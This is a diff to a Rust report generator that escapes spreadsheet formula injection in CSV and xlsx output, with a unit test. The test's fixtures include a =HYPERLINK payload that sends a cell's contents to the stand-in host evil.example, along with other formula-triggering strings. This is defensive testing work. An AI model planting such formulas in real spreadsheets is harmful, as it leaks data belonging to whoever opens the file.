@@ -61,7 +61,33 @@ const DAILY_HEADER: [&str; 14] = [
     "job_id",
 ];
 
+/// Would a spreadsheet opening the CSV read this cell as a formula? Text
+/// from invoices (a supplier's name) reaches these reports: `=HYPERLINK(…)`
+/// or `@SUM(…)` must stay text. A plain number (`-12.50`) is left alone.
+fn starts_formula(s: &str) -> bool {
+    s.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(s)
+}
+
+/// `-?digits(.digits)?`: the only cells that may begin with '-'.
+fn is_plain_number(s: &str) -> bool {
+    let digits = s.strip_prefix('-').unwrap_or(s);
+    let (int, frac) = digits.split_once('.').unwrap_or((digits, "1"));
+    !int.is_empty()
+        && !frac.is_empty()
+        && int.bytes().all(|b| b.is_ascii_digit())
+        && frac.bytes().all(|b| b.is_ascii_digit())
+}
+
+/// One CSV cell: a cell that would start a formula gets a leading `'`
+/// (OWASP, CSV injection), then RFC 4180 quoting.
 fn csv_field(s: &str) -> String {
+    let neutral;
+    let s = if starts_formula(s) {
+        neutral = format!("'{s}");
+        neutral.as_str()
+    } else {
+        s
+    };
     if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
@@ -125,6 +151,9 @@ pub struct DailyReport {
     commission: Decimal,
     bold: Format,
     money: Format,
+    /// Text that would start a formula: written as a string (never a
+    /// formula) with Excel's quote prefix, so editing the cell keeps it text.
+    quoted: Format,
 }
 
 /// What [`DailyReport::finish`] returns.
@@ -163,6 +192,7 @@ impl DailyReport {
             commission: Decimal::ZERO,
             bold,
             money,
+            quoted: Format::new().set_quote_prefix(),
         })
     }
 
@@ -186,6 +216,9 @@ impl DailyReport {
                 }
                 13 => {
                     ws.write_number(row, c as u16, r.job_id as f64)?;
+                }
+                _ if starts_formula(v) => {
+                    ws.write_string_with_format(row, c as u16, v, &self.quoted)?;
                 }
                 _ => {
                     ws.write_string(row, c as u16, v)?;
@@ -603,5 +636,106 @@ pub async fn run_scheduler(store: Store, config: Arc<Config>, shutdown: Cancella
             _ = shutdown.cancelled() => break,
             _ = tokio::time::sleep(std::time::Duration::from_millis(wait)) => {}
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn registration(job_id: i64, supplier: &str, customer: &str) -> Registration {
+        Registration {
+            job_id,
+            certificate_number: format!("BMC-{job_id:06}"),
+            account: "demo".into(),
+            invoice_number: format!("SETP{job_id}"),
+            cufe: "c".repeat(96),
+            supplier_id: "900373115".into(),
+            supplier_name: supplier.into(),
+            customer_id: "800199436".into(),
+            customer_name: customer.into(),
+            value: "1234567.89".into(),
+            commission: "-1234.50".into(),
+            rule_id: "granos-venta".into(),
+            rule_version: "3".into(),
+            registered_at: 1_710_514_800_123,
+            registered_day: "2026-03-15".into(),
+        }
+    }
+
+    fn sheet_xml(xlsx: &[u8]) -> String {
+        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).unwrap();
+        let mut f = zip.by_name("xl/worksheets/sheet1.xml").unwrap();
+        let mut s = String::new();
+        std::io::Read::read_to_string(&mut f, &mut s).unwrap();
+        s
+    }
+
+    // Issue 16: a supplier name is attacker-chosen text. In the CSV, a cell
+    // that would start a formula gets a leading quote; in the xlsx it is a
+    // string cell (never a formula) with the quote-prefix style. Plain
+    // numbers, even negative, are unchanged; the output stays reproducible.
+    #[test]
+    fn cells_that_would_start_a_formula_stay_text() {
+        let day = NaiveDate::from_ymd_opt(2026, 3, 15).unwrap();
+        let hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Clic\")";
+        let rows = [
+            registration(1, hyperlink, "@SUM(1+1)"),
+            registration(2, "+57 Agro", "-Molinos"),
+            registration(3, "\tTab S.A.S.", "\rCR Ltda"),
+            registration(4, "Agrícola Ñandú S.A.S.", "Molinos"),
+        ];
+        let out = daily(day, &rows).unwrap();
+        let csv = String::from_utf8(out.csv.clone()).unwrap();
+        let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
+        let cells: Vec<Vec<String>> = reader
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_string).collect())
+            .collect();
+        let names: Vec<(&str, &str)> = cells.iter().map(|r| (&*r[6], &*r[8])).collect();
+        assert_eq!(
+            names,
+            [
+                (&*format!("'{hyperlink}"), "'@SUM(1+1)"),
+                ("'+57 Agro", "'-Molinos"),
+                ("'\tTab S.A.S.", "'\rCR Ltda"),
+                ("Agrícola Ñandú S.A.S.", "Molinos"),
+            ]
+        );
+        for row in &cells {
+            assert_eq!(row[10], "-1234.50", "a negative amount is a number");
+            for cell in row {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell == "-1234.50",
+                    "{cell:?}"
+                );
+            }
+        }
+
+        let sheet = sheet_xml(&out.xlsx);
+        assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{sheet}");
+        let shared = {
+            let mut zip = zip::ZipArchive::new(std::io::Cursor::new(&out.xlsx)).unwrap();
+            let mut s = String::new();
+            if let Ok(mut f) = zip.by_name("xl/sharedStrings.xml") {
+                std::io::Read::read_to_string(&mut f, &mut s).unwrap();
+            }
+            s
+        };
+        let all = format!("{sheet}{shared}");
+        assert!(all.contains("=HYPERLINK("), "the name is kept as text");
+        assert!(all.contains("@SUM(1+1)"));
+        let styles = {
+            let mut zip = zip::ZipArchive::new(std::io::Cursor::new(&out.xlsx)).unwrap();
+            let mut s = String::new();
+            let mut f = zip.by_name("xl/styles.xml").unwrap();
+            std::io::Read::read_to_string(&mut f, &mut s).unwrap();
+            s
+        };
+        assert!(styles.contains("quotePrefix=\"1\""), "{styles}");
+
+        let again = daily(day, &rows).unwrap();
+        assert_eq!(again.csv, out.csv);
+        assert_eq!(again.xlsx, out.xlsx, "reports stay byte-reproducible");
     }
 }
